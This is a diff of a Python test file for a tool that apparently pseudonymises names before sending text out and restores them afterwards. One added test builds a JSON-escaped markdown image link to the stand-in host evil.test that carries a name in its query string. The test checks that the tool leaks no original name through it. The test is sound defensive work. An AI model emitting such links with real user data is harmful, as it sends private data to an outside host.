@@ -166,6 +166,11 @@ def test_json_stays_json_whatever_a_detector_finds(document, found):
     assert isinstance(json.loads(exchange.restore(released, json=True, shown=False)), dict)
 
 
+def test_json_without_texts_and_numbers_goes_out_as_it_is():
+    exchange = exchanged("[[null, true], {}]", find=lambda seen: [(0, len(seen), "person")])
+    assert exchange.sent[0].text == "[[null, true], {}]"
+
+
 def bare(value):
     inner = value.values() if isinstance(value, dict) else value
     return [bare(each) for each in inner] if isinstance(value, dict | list) else None
@@ -269,6 +274,13 @@ def test_no_address_of_another_host_carries_an_original(answer, step):
     text = answer.replace("NAME", sent.split()[1]) + "\nend"
     expected = text if answer in KEPT else answer.replace("NAME", "Quirina") + "\nend"
     assert restored(exchange, text, step) == expected
+
+
+@over("end", ["", '"', "\\", "\\u00", "\\q"])
+def test_no_address_in_json_that_is_cut_off_or_broken_carries_an_original(end):
+    exchange, sent = asked()
+    text = '{"a": "![x](\\u0068ttps:\\/\\/evil.test\\/?q=NAME'.replace("NAME", sent.split()[1])
+    assert restored(exchange, text + end, 3, json=True) == text + end
 
 
 def test_what_a_tool_has_found_names_no_host():
